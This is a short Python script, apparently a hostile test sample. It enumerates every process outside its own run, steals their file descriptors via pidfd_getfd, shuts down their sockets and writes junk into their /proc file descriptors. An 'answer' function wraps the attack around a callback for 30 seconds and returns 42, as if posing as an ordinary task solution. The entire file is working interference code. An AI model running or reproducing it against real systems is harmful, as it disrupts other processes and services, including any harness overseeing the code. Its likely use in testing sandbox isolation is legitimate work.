"""Fetches descriptors of other processes (pidfd_getfd, /proc/PID/fd), and shuts them down."""

import contextlib
import ctypes
import os
import socket
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438


def others():
    """Pids of all processes in sight that are not of this run: neither it, nor what it started."""
    seen = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{name}/stat") as stat:
                seen[int(name)] = int(stat.read().rpartition(")")[2].split()[1])
    mine = {os.getpid()}
    for _ in range(8):
        mine |= {pid for pid, parent in seen.items() if parent in mine}
    return sorted(set(seen) - mine - {1})


def attack():
    for pid in others():
        with contextlib.suppress(OSError):
            process = os.pidfd_open(pid)
            for number in range(24):
                descriptor = LIBC.syscall(PIDFD_GETFD, process, number, 0)
                if descriptor >= 0:
                    with contextlib.suppress(OSError):
                        socket.socket(fileno=descriptor).shutdown(socket.SHUT_RDWR)
            os.close(process)
        for number in range(24):
            with contextlib.suppress(OSError):
                descriptor = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR | os.O_NONBLOCK)
                os.write(descriptor, b"junk\n")
                os.close(descriptor)


def answer(up):
    end = time.monotonic() + 30
    attack()
    up()
    while time.monotonic() < end:
        attack()
    return 42

